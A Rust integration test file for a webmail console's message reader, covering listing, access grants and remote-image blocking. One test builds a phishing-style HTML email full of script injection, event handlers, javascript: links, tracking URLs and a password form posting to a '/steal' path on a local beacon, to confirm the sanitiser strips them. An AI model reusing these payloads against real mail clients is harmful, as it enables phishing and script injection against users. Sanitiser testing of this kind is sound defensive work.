//! Mail in the console (design §4.4): the owner lists a mailbox's folders and messages (unread
//! first) and opens one, its body in a sandboxed frame with inline `cid:` images; an admin
//! without a grant gets the page saying reading needs one; hostile HTML renders harmlessly
//! (no script ran, nothing navigated, a beacon server of the test's own heard nothing, the
//! form is gone, the frame's `sandbox` is empty and its own CSP is served); remote images
//! load only after the person asks, for that view.
//!
//! Mail reaches a real Dovecot user by IMAP APPEND and is indexed by the real sync service.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use fantoccini::Locator;
use mailroom_tests::browser::Browser;
use mailroom_tests::mailstore::{new_mail_user, MailUser};
use mailroom_tests::{authed, mailboxes_pb as mpb, sync_pb as spb, TestApp, TestOrg, PASSWORD};
use tonic::Code;

use super::{connect_test_mailbox, cookie_pair, http, spawn_web, web_org};

/// Connects `user`'s Dovecot mailbox for `owner` (as the org's admin), retrying while the
/// registry has not heard of a just-made owner.
pub(super) async fn connect(
    app: &TestApp,
    org: &TestOrg,
    owner: &str,
    user: &MailUser,
) -> mpb::Mailbox {
    connect_test_mailbox(
        app,
        org,
        mpb::Mailbox {
            email: user.username.clone(),
            owner_user_id: owner.into(),
            name: "Work".into(),
            sender_name: "Rita".into(),
            ..Default::default()
        },
        &user.username,
        &user.password,
    )
    .await
}

/// APPENDs `raw` to INBOX, seen or not.
async fn append(user: &MailUser, raw: &str, seen: bool) {
    let mut imap = user.session().await;
    let flags = if seen { "(\\Seen)" } else { "()" };
    imap.append("INBOX", Some(flags), None, raw.as_bytes())
        .await
        .expect("APPEND");
    let _ = imap.logout().await;
}

/// Waits until the owner's ListMessages shows `count` messages in INBOX (sync has run).
async fn indexed(
    app: &TestApp,
    token: &str,
    mailbox: &str,
    count: usize,
) -> Vec<spb::MessageSummary> {
    let deadline = Instant::now() + Duration::from_secs(90);
    loop {
        let got = app
            .sync()
            .list_messages(authed(
                token,
                spb::ListMessagesRequest {
                    mailbox_id: mailbox.into(),
                    page_size: 50,
                    filter: "folder = \"INBOX\"".into(),
                    ..Default::default()
                },
            ))
            .await;
        match got {
            Ok(list) if list.get_ref().messages.len() >= count => {
                return list.into_inner().messages
            }
            Ok(_) => {}
            Err(s)
                if matches!(
                    s.code(),
                    Code::NotFound | Code::PermissionDenied | Code::Unavailable
                ) => {}
            Err(s) => panic!("list messages: {s:?}"),
        }
        assert!(
            Instant::now() < deadline,
            "the mailbox {mailbox} was not indexed with {count} messages within 90 s"
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
}

/// A user of `org` with a mailbox on a fresh Dovecot user: (user id, login, mailbox id,
/// the Dovecot user).
pub(super) async fn owner_with_mailbox(
    app: &TestApp,
    org: &TestOrg,
    local: &str,
) -> (String, String, String, MailUser) {
    let user = app.create_user(org, local, "").await;
    let mail_user = new_mail_user();
    let mailbox = connect(app, org, &user.id, &mail_user).await;
    (user.id, org.address(local), mailbox.id, mail_user)
}

const PNG_1X1: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

fn plain(subject: &str, body: &str, date: &str) -> String {
    format!(
        "From: Anna Sender <anna@example.com>\r\nTo: Rita <rita@example.com>\r\nSubject: {subject}\r\nDate: {date}\r\nMessage-ID: <{}@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n",
        uuid::Uuid::new_v4().simple()
    )
}

fn related(subject: &str, date: &str) -> String {
    format!(
        "From: Boris Designer <boris@example.com>\r\nTo: Rita <rita@example.com>\r\nSubject: {subject}\r\nDate: {date}\r\nMessage-ID: <{}@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"rel1\"\r\n\r\n--rel1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body><h2 style=\"color:#0b5\">The new logo</h2><p>Here it is:</p><img id=\"logo\" src=\"cid:logo@example.com\" alt=\"logo\" width=\"40\" height=\"40\"></body></html>\r\n--rel1\r\nContent-Type: image/png\r\nContent-ID: <logo@example.com>\r\nContent-Transfer-Encoding: base64\r\n\r\n{PNG_1X1}\r\n--rel1--\r\n",
        uuid::Uuid::new_v4().simple()
    )
}

#[tokio::test]
async fn reader_lists_and_opens_a_message() {
    let app = spawn_web().await;
    let org = web_org(&app, 10).await;
    let (_rita, rita_email, mailbox, mail_user) = owner_with_mailbox(&app, &org, "rita").await;
    append(
        &mail_user,
        &plain(
            "Quarterly report",
            "The numbers are in.",
            "Mon, 30 Nov 2026 09:00:00 +0000",
        ),
        true,
    )
    .await;
    append(
        &mail_user,
        &related("Logo draft", "Tue, 1 Dec 2026 10:00:00 +0000"),
        true,
    )
    .await;
    append(
        &mail_user,
        &plain(
            "Lunch on Friday",
            "Shall we meet at noon? <b>not bold</b>",
            "Wed, 2 Dec 2026 12:30:00 +0000",
        ),
        false,
    )
    .await;
    let token = app
        .login(&rita_email)
        .await
        .expect("rita signs in")
        .access_token;
    indexed(&app, &token, &mailbox, 3).await;

    let b = Browser::start().await;
    b.sign_in(&app, &rita_email, PASSWORD).await;
    b.goto(&app, &format!("/mailboxes/{mailbox}/mail")).await;
    b.wait_for("#mail-unread").await;
    let unread = b.text("#mail-unread").await;
    let read = b.text("#mail-read").await;
    assert!(
        unread.contains("Lunch on Friday"),
        "unread section: {unread}"
    );
    assert!(
        !unread.contains("Quarterly report"),
        "unread section: {unread}"
    );
    assert!(
        read.contains("Quarterly report") && read.contains("Logo draft"),
        "read section: {read}"
    );
    let read_rows = b.texts("#mail-read tbody tr").await;
    assert!(
        read_rows[0].contains("Logo draft") && read_rows[1].contains("Quarterly report"),
        "newest first: {read_rows:?}"
    );
    let source = b.source().await;
    assert!(
        source.find("id=\"mail-unread\"") < source.find("id=\"mail-read\""),
        "unread comes first"
    );
    assert!(b.text("#mail-folders").await.contains("INBOX"));
    b.screenshot("list").await;
    b.axe().await;

    // Unread only.
    b.check("Unread only").await;
    b.click_button("Show").await;
    // The old page has both sections: wait for the new one before looking.
    let deadline = Instant::now() + Duration::from_secs(10);
    while !b.path().await.contains("unread=1") {
        assert!(
            Instant::now() < deadline,
            "Show did not open the unread-only list within 10 s: {}",
            b.path().await
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    b.wait_for("#mail-unread").await;
    assert!(!b.exists("#mail-read").await, "only the unread section");
    b.screenshot("unread-only").await;

    // A plain-text message: headers and the escaped body in the sandboxed frame.
    b.click_link("Lunch on Friday (unread)").await;
    b.wait_for("#mail-subject").await;
    assert_eq!(b.text("#mail-subject").await, "Lunch on Friday");
    let headers = b.text("dl.mail-headers").await;
    assert!(
        headers.contains("Anna Sender <anna@example.com>"),
        "{headers}"
    );
    assert!(headers.contains("Dec 2026"), "the date: {headers}");
    let frame = b.find("iframe#mail-frame").await;
    assert_eq!(
        frame.attr("sandbox").await.expect("attr").as_deref(),
        Some("")
    );
    assert_eq!(
        frame.attr("referrerpolicy").await.expect("attr").as_deref(),
        Some("no-referrer")
    );
    frame.enter_frame().await.expect("enter the mail frame");
    let pre = b
        .client()
        .wait()
        .at_most(Duration::from_secs(10))
        .for_element(Locator::Css("pre"))
        .await
        .expect("the text body as <pre>");
    let text = pre.text().await.expect("text");
    assert!(
        text.contains("Shall we meet at noon? <b>not bold</b>"),
        "escaped, not markup: {text}"
    );
    assert!(!b.exists("b").await, "no element came from the text");
    b.client()
        .enter_parent_frame()
        .await
        .expect("leave the frame");
    assert!(
        !b.exists("#mail-images-bar").await,
        "nothing remote to block"
    );
    b.screenshot("plain-message").await;
    b.axe().await;

    // Back to the folder, then the HTML message with its inline image.
    b.click_link("Back to INBOX").await;
    b.click_link("Logo draft").await;
    b.wait_for("#mail-subject").await;
    let frame = b.find("iframe#mail-frame").await;
    frame.enter_frame().await.expect("enter the mail frame");
    let logo = b
        .client()
        .wait()
        .at_most(Duration::from_secs(10))
        .for_element(Locator::Css("img#logo, img[alt=logo]"))
        .await
        .expect("the inline image");
    let src = logo.attr("src").await.expect("attr").unwrap_or_default();
    assert!(
        src.starts_with("data:image/png;base64,"),
        "cid: became the image itself (the sandboxed frame sends no cookies): {}",
        &src[..src.len().min(80)]
    );
    // A data: image decodes after the element exists: give it a moment on a busy machine.
    let deadline = Instant::now() + Duration::from_secs(10);
    let loaded = loop {
        let loaded = b
            .client()
            .execute(
                "const i = document.querySelector('img[alt=logo]'); return i ? (i.complete ? i.naturalWidth : -2) : -1;",
                vec![],
            )
            .await;
        match &loaded {
            Ok(width) if width.as_i64() == Some(-2) && Instant::now() < deadline => {
                tokio::time::sleep(Duration::from_millis(100)).await
            }
            _ => break loaded,
        }
    };
    b.client()
        .enter_parent_frame()
        .await
        .expect("leave the frame");
    b.screenshot("html-message").await;
    // The frame's sandbox may keep WebDriver's script out: then the `src` above is the check.
    if let Ok(width) = loaded {
        assert_eq!(width.as_i64(), Some(1), "the inline image loaded");
    }
    // The part address: image parts only, with their type, never sniffed.
    let uid = b
        .url()
        .await
        .path()
        .rsplit('/')
        .next()
        .unwrap_or_default()
        .to_owned();
    let session = b
        .client()
        .get_named_cookie("mr_session")
        .await
        .expect("the session cookie");
    let cookie = cookie_pair(&format!("mr_session={}", session.value()));
    let part_url = |n: usize| {
        format!(
            "{}/mailboxes/{mailbox}/mail/INBOX/{uid}/part/{n}",
            app.web_url()
        )
    };
    let image = http("GET", &part_url(2), &[("cookie", &cookie)], None).await;
    assert_eq!(image.status, 200);
    assert_eq!(image.header("content-type"), Some("image/png"));
    assert_eq!(image.header("x-content-type-options"), Some("nosniff"));
    let html_part = http("GET", &part_url(1), &[("cookie", &cookie)], None).await;
    assert_eq!(
        html_part.status, 404,
        "the HTML part is not served as a file"
    );
    b.close().await;
}

#[tokio::test]
async fn admin_without_grant_cannot_read() {
    let app = spawn_web().await;
    let org = web_org(&app, 10).await;
    let (_rita, rita_email, mailbox, mail_user) = owner_with_mailbox(&app, &org, "rita").await;
    append(
        &mail_user,
        &plain(
            "Private",
            "Only for Rita.",
            "Wed, 2 Dec 2026 12:30:00 +0000",
        ),
        false,
    )
    .await;
    let token = app
        .login(&rita_email)
        .await
        .expect("rita signs in")
        .access_token;
    let messages = indexed(&app, &token, &mailbox, 1).await;
    let uid = messages[0].uid;

    let b = Browser::start().await;
    b.sign_in(&app, &org.admin_email, PASSWORD).await;
    let sentence = "Reading this mailbox needs a grant from its owner";
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        b.goto(&app, &format!("/mailboxes/{mailbox}/mail")).await;
        let body = b.body_text().await;
        if body.contains(sentence) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the admin never got the needs-a-grant page; the page reads:\n{body}"
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    let body = b.body_text().await;
    assert!(!body.contains("Private"), "no subject leaks: {body}");
    b.screenshot("list-refused").await;

    b.goto(&app, &format!("/mailboxes/{mailbox}/mail/INBOX/{uid}"))
        .await;
    b.wait_for_text(sentence).await;
    assert!(!b.body_text().await.contains("Only for Rita"));
    b.screenshot("message-refused").await;

    // The frame refuses too, inside itself (no error page that would refuse to be framed).
    b.goto(
        &app,
        &format!("/mailboxes/{mailbox}/mail/INBOX/{uid}/frame"),
    )
    .await;
    let frame_text = b.body_text().await;
    assert!(!frame_text.contains("Only for Rita"), "{frame_text}");
    assert!(frame_text.contains(sentence), "{frame_text}");
    b.close().await;
}

/// A loopback HTTP server that counts every connection made to it.
async fn beacon() -> (u16, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("a beacon port");
    let port = listener.local_addr().expect("addr").port();
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
                let mut buf = [0u8; 2048];
                let _ = socket.read(&mut buf).await;
                let _ = socket
                    .write_all(b"HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                    .await;
            });
        }
    });
    (port, hits)
}

fn hostile(beacon: &str) -> String {
    let html = format!(
        r##"<html><head>
<meta http-equiv="refresh" content="0;url={beacon}/refresh">
<base href="{beacon}/base/">
<link rel="stylesheet" href="{beacon}/link.css">
<style>body {{ background: url({beacon}/style-element.png); }} .x {{ color: red }}</style>
<script src="{beacon}/script.js"></script>
<script>alert("script ran"); location = "{beacon}/script-navigated";</script>
</head><body onload="alert('onload ran')">
<h1>Account notice</h1>
<p id="greeting">Dear customer, please confirm your password.</p>
<img src="{beacon}/remote.png" alt="tracker">
<img src="x" onerror="alert('onerror ran')">
<img srcset="{beacon}/srcset.png 1x" alt="srcset">
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:url({beacon}/overlay.png);background-color:#c00">OVERLAY</div>
<p style="background-image:url('{beacon}/attr.png');color:#123456">styled text</p>
<form id="phish" action="{beacon}/steal" method="post"><label>Password <input name="pw" type="password"></label><button type="submit">Confirm</button></form>
<a id="jslink" href="javascript:alert('link ran')">click me</a>
<a id="weblink" href="https://example.com/">a real link</a>
<iframe src="{beacon}/iframe"></iframe>
<object data="{beacon}/object"></object>
<embed src="{beacon}/embed">
<video poster="{beacon}/poster.png" src="{beacon}/video.mp4"></video>
<svg><image href="{beacon}/svg.png"/><script>alert('svg ran')</script></svg>
<input type="image" src="{beacon}/input.png">
<table background="{beacon}/table.png"><tr><td>cell</td></tr></table>
</body></html>"##
    );
    format!(
        "From: Security Team <security@bank.example>\r\nTo: Rita <rita@example.com>\r\nSubject: Urgent: verify your account\r\nDate: Thu, 3 Dec 2026 08:00:00 +0000\r\nMessage-ID: <{}@bank.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n",
        uuid::Uuid::new_v4().simple()
    )
}

#[tokio::test]
async fn hostile_mail_renders_harmlessly() {
    let app = spawn_web().await;
    let org = web_org(&app, 10).await;
    let (beacon_port, hits) = beacon().await;
    let beacon_url = format!("http://127.0.0.1:{beacon_port}");
    let (_rita, rita_email, mailbox, mail_user) = owner_with_mailbox(&app, &org, "rita").await;
    append(&mail_user, &hostile(&beacon_url), false).await;
    let token = app
        .login(&rita_email)
        .await
        .expect("rita signs in")
        .access_token;
    let messages = indexed(&app, &token, &mailbox, 1).await;
    let uid = messages[0].uid;

    let b = Browser::start().await;
    b.sign_in(&app, &rita_email, PASSWORD).await;
    let path = format!("/mailboxes/{mailbox}/mail/INBOX/{uid}");
    b.goto(&app, &path).await;
    b.wait_for("iframe#mail-frame").await;
    // Give anything hostile time to run, load or navigate.
    tokio::time::sleep(Duration::from_secs(3)).await;

    assert!(
        b.client().get_alert_text().await.is_err(),
        "no alert dialog is open"
    );
    assert_eq!(b.url().await.path(), path, "the page did not navigate");
    assert_eq!(b.text("#mail-subject").await, "Urgent: verify your account");
    let bar = b.text("#mail-images-bar").await;
    assert!(
        bar.contains("remote image"),
        "the blocked-images bar: {bar}"
    );
    let frame = b.find("iframe#mail-frame").await;
    assert_eq!(
        frame.attr("sandbox").await.expect("attr").as_deref(),
        Some(""),
        "the frame's sandbox is empty (no scripts, forms, popups, same origin, navigation)"
    );
    b.screenshot("hostile-message").await;

    frame.enter_frame().await.expect("enter the mail frame");
    b.client()
        .wait()
        .at_most(Duration::from_secs(10))
        .for_element(Locator::Css("#greeting, p"))
        .await
        .expect("the frame rendered the body");
    let frame_text = b.body_text().await;
    assert!(frame_text.contains("Dear customer"), "{frame_text}");
    for gone in [
        "body form",
        "body input",
        "body button",
        "script",
        "body iframe",
        "body object",
        "body embed",
        "body svg",
        "body video",
        "meta[http-equiv]",
        "base",
        "link",
        "body style",
        "[style*=position]",
    ] {
        assert!(!b.exists(gone).await, "`{gone}` is gone from the frame");
    }
    for a in b.client().find_all(Locator::Css("a")).await.expect("links") {
        let href = a.attr("href").await.expect("attr").unwrap_or_default();
        assert!(
            !href.to_ascii_lowercase().starts_with("javascript:"),
            "{href}"
        );
    }
    let source = b.source().await.to_ascii_lowercase();
    for bad in [
        "onerror",
        "onload",
        "javascript:",
        "position:fixed",
        "url(",
        &format!("127.0.0.1:{beacon_port}"),
    ] {
        assert!(!source.contains(bad), "`{bad}` is in the frame's document");
    }
    b.client()
        .enter_parent_frame()
        .await
        .expect("leave the frame");

    // A moment later: still nothing ran, moved or called out.
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert!(b.client().get_alert_text().await.is_err(), "still no alert");
    assert_eq!(b.url().await.path(), path);
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "the beacon server got no request"
    );

    // The frame's own headers.
    let session = b
        .client()
        .get_named_cookie("mr_session")
        .await
        .expect("the session cookie");
    let cookie = cookie_pair(&format!("mr_session={}", session.value()));
    let reply = http(
        "GET",
        &format!("{}{path}/frame", app.web_url()),
        &[("cookie", &cookie)],
        None,
    )
    .await;
    assert_eq!(reply.status, 200);
    let csp = reply.header("content-security-policy").unwrap_or_default();
    assert!(
        csp.starts_with("default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'"),
        "{csp}"
    );
    assert!(csp.contains("frame-ancestors 'self'"), "{csp}");
    assert!(!csp.contains("https:"), "remote images stay blocked: {csp}");
    assert_eq!(reply.header("x-frame-options"), Some("SAMEORIGIN"));
    assert!(!reply.body.contains("<script"), "{}", reply.body);
    assert!(!reply.body.contains(&format!("127.0.0.1:{beacon_port}")));
    b.screenshot("hostile-after").await;
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "the beacon server got no request"
    );
    b.close().await;
}

#[tokio::test]
async fn remote_images_only_after_asking() {
    let app = spawn_web().await;
    let org = web_org(&app, 10).await;
    let (beacon_port, hits) = beacon().await;
    let (_rita, rita_email, mailbox, mail_user) = owner_with_mailbox(&app, &org, "rita").await;
    let raw = format!(
        "From: News <news@shop.example>\r\nTo: Rita <rita@example.com>\r\nSubject: Weekly offers\r\nDate: Thu, 3 Dec 2026 08:00:00 +0000\r\nMessage-ID: <{}@shop.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>This week:</p><img src=\"https://127.0.0.1:{beacon_port}/offer.png\" alt=\"offer\"><img src=\"https://127.0.0.1:{beacon_port}/pixel.gif\" alt=\"\">\r\n",
        uuid::Uuid::new_v4().simple()
    );
    append(&mail_user, &raw, false).await;
    let token = app
        .login(&rita_email)
        .await
        .expect("rita signs in")
        .access_token;
    let uid = indexed(&app, &token, &mailbox, 1).await[0].uid;

    let b = Browser::start().await;
    b.sign_in(&app, &rita_email, PASSWORD).await;
    b.goto(&app, &format!("/mailboxes/{mailbox}/mail/INBOX/{uid}"))
        .await;
    assert_eq!(
        b.text("#mail-images-bar span").await,
        "2 remote images blocked"
    );
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "nothing fetched before asking"
    );
    b.screenshot("blocked").await;

    b.click_button("Show").await;
    b.wait_for_text("Remote images are shown for this view")
        .await;
    let src = b
        .find("iframe#mail-frame")
        .await
        .attr("src")
        .await
        .expect("attr")
        .unwrap_or_default();
    assert!(src.contains("/frame?images="), "{src}");
    let deadline = Instant::now() + Duration::from_secs(10);
    while hits.load(Ordering::SeqCst) == 0 {
        assert!(
            Instant::now() < deadline,
            "the frame never asked for the remote images after the person did"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    b.screenshot("shown").await;

    // Reloading the message blocks them again; a forged token does not unblock them.
    b.goto(&app, &format!("/mailboxes/{mailbox}/mail/INBOX/{uid}"))
        .await;
    assert_eq!(
        b.text("#mail-images-bar span").await,
        "2 remote images blocked"
    );
    let session = b
        .client()
        .get_named_cookie("mr_session")
        .await
        .expect("the session cookie");
    let cookie = cookie_pair(&format!("mr_session={}", session.value()));
    let forged = http(
        "GET",
        &format!(
            "{}/mailboxes/{mailbox}/mail/INBOX/{uid}/frame?images=forged",
            app.web_url()
        ),
        &[("cookie", &cookie)],
        None,
    )
    .await;
    let csp = forged.header("content-security-policy").unwrap_or_default();
    assert!(!csp.contains("https:"), "{csp}");
    assert!(!forged.body.contains(&format!("127.0.0.1:{beacon_port}")));
    b.close().await;
}
